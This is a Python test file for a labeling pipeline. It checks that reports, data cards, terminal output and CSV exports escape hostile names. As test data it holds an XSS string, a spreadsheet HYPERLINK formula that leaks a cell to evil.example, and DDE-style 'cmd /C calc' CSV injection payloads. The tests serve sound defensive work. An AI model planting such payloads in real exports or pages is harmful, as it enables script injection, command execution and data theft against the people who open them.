"""Reports and exports do not trust names (issue 11, case 6): a hostile annotator name, label or id reaches the
disagreement report, Dagster metadata, the data card and the CSV outputs as inert text."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import polars as pl
import pytest

from factory.cli import main
from factory.core.dataset import datacard
from factory.core.gates import GateResult
from factory.core.labeling import annotator_scores, review_annotators
from factory.core.safe_text import (
    FORMULA_PREFIXES,
    csv_safe,
    csv_safe_text,
    markdown_code,
    markdown_text,
    terminal_text,
)
from factory.defs.metadata import markdown_list, markdown_table, preview

HOSTILE = "<img src=x onerror=alert(1)><script>x</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CLASSES = ["billing", "refund", "bug"]


def _inert(markdown: str) -> None:
    """No tag, link or image opens in ``markdown`` (escaped forms such as ``&lt;img`` and ``\\[`` are fine)."""
    assert "<img" not in markdown and "<script" not in markdown and "</script" not in markdown
    assert "&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;x&lt;/script&gt;" in markdown


def test_markdown_text_escapes_html_links_and_table_breaks() -> None:
    assert markdown_text(HOSTILE) == "&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;x&lt;/script&gt;"
    assert markdown_text("[click](javascript:alert(1))") == "\\[click\\](javascript:alert(1))"
    assert markdown_text("a|b\nc") == "a\\|b c"
    assert markdown_text("account_access") == "account_access"  # plain names read as typed
    assert markdown_code("v3 `x`") == "`` v3 `x` ``"
    assert markdown_code("abc") == "`abc`"


def _annotations() -> pl.DataFrame:
    """Three annotators agree on every item; the hostile one answers at random, so it is flagged as a spammer."""
    rng = np.random.default_rng(7)
    rows = []
    for item in range(120):
        truth = CLASSES[item % 3]
        for annotator in ("amara", "bruno", "chen"):
            rows.append((f"T{item:03d}", annotator, truth))
        rows.append((f"T{item:03d}", HOSTILE, str(rng.choice(CLASSES))))
    at = datetime(2026, 1, 1, tzinfo=UTC)
    return pl.DataFrame(
        [(i, a, label, at) for i, a, label in rows],
        schema={
            "item_id": pl.String,
            "annotator": pl.String,
            "label": pl.String,
            "created_at": pl.Datetime("us", "UTC"),
        },
        orient="row",
    )


def test_the_disagreement_report_escapes_annotator_names() -> None:
    frame = _annotations()
    consensus = frame.filter(pl.col("annotator") == "amara").select("item_id", "label")
    scores = annotator_scores(frame, consensus, CLASSES)
    assert scores.filter("spammer")["annotator"].to_list() == [HOSTILE]
    report = review_annotators(frame, consensus, CLASSES, None).report
    _inert(report)
    assert "likely spammer" in report


def test_metadata_tables_lists_and_previews_escape_values() -> None:
    rows = [{"annotator": HOSTILE, HOSTILE: "x", "score": 0.5}]
    _inert(markdown_table(rows))
    _inert(str(markdown_list([f"{HOSTILE}.csv: unreadable"]).value))
    _inert(str(preview(pl.DataFrame({"id": [HOSTILE]}), ["id"]).value))


def test_the_data_card_escapes_labels_gates_and_lineage() -> None:
    frame = pl.DataFrame(
        {
            "label": [HOSTILE, "billing"],
            "split": ["train", "test"],
            "label_confidence": [1.0, 0.9],
            "label_source": ["ds", "gold"],
            "source_partition": ["2026-01-01", "2026-01-01"],
        }
    )
    card = datacard(
        title=HOSTILE,
        frame=frame,
        classes=[HOSTILE, "billing"],
        digest="abc",
        lineage={"commit": "v`1 [x](y)"},
        gates=[GateResult("min_rows", True, HOSTILE)],
    )
    _inert(card)
    assert "- commit: ``v`1 [x](y)``" in card  # a code span, which markdown shows verbatim


def test_terminal_text_shows_control_characters_as_escapes() -> None:
    assert terminal_text("r\u00e9sum\u00e9 \u5de5\u5382 | <b>") == "r\u00e9sum\u00e9 \u5de5\u5382 | <b>"
    assert terminal_text("a\x1b[2Jb\nc\td\u202ee") == "a\\x1b[2Jb\\nc\\td\\u202ee"
    assert terminal_text(7) == "7"


def test_csv_safe_neutralizes_formula_prefixes() -> None:
    for prefix in FORMULA_PREFIXES:
        assert csv_safe_text(prefix + "1+1") == "'" + prefix + "1+1"
    assert csv_safe_text("billing") == "billing"
    frame = pl.DataFrame({"item_id": [FORMULA, "@SUM(A1)", "-2+3", "ok"], "confidence": [-1.0, 0.5, 0.5, 1.0]})
    safe = csv_safe(frame)
    assert safe["item_id"].to_list() == ["'" + FORMULA, "'@SUM(A1)", "'-2+3", "ok"]
    assert safe["confidence"].to_list() == [-1.0, 0.5, 0.5, 1.0]  # numbers stay numbers


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _quoted(value: str) -> str:
    doubled = value.replace('"', '""')
    return f'"{doubled}"'


def test_labels_aggregate_writes_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = ["item_id,annotator,label,created_at"]
    for item, name in enumerate((FORMULA, HOSTILE, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")):
        ident = _quoted(name)
        lines += [f"{ident},{ident},billing,2026-01-01T00:00:00Z", f"{ident},amara,{CLASSES[item % 2]},2026-01-01"]
    lines.append('"=1+1",bruno,"=not_a_class",2026-01-01T00:00:00Z')
    (tmp_path / "ann.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    out, rejects = tmp_path / "out.csv", tmp_path / "rejects.csv"
    args = ["labels", "aggregate", "--annotations", str(tmp_path / "ann.csv"), "--classes", ",".join(CLASSES)]
    assert main([*args, "--out", str(out), "--rejects", str(rejects), "--method", "mv"]) == 0
    capsys.readouterr()
    written = _cells(out) + _cells(rejects)
    assert not [cell for cell in written if cell.startswith(FORMULA_PREFIXES)]
    assert "'" + FORMULA in _cells(out)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in _cells(out)
